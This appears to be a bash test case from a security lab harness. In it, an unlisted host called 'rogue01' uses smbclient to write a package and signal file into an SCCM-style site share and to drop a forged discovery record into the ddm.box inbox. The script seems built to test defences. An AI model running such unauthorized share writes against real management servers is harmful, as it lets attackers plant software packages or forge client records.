#!/bin/bash
# A host that nobody listed writes into the share between sites, and drops a discovery record into an inbox; signed and encrypted would not help.
. "$(dirname "$0")/../../tests/lab/case.sh"
. "$TOP/tests/lab/shares.sh"
shares mp01 "${SIGNED[@]}"
cp "$WORK/samba-mp01/share/PS100001/setup.msi" "$WORK/202SQCS1.PCK"
echo MICROSOFT >"$WORK/202SQCS1.TMP"
echo record >"$WORK/new.DDR"
record
smb rogue01 -m SMB3_11 //mp01.corp.example/SMS_SITE -c 'put 202SQCS1.PCK; put 202SQCS1.TMP; rename 202SQCS1.TMP 202SQCS1.SNI'
smb rogue01 -m SMB3_11 //mp01.corp.example/SMS_PS1 -c 'put new.DDR inboxes\ddm.box\new.DDR'
finish
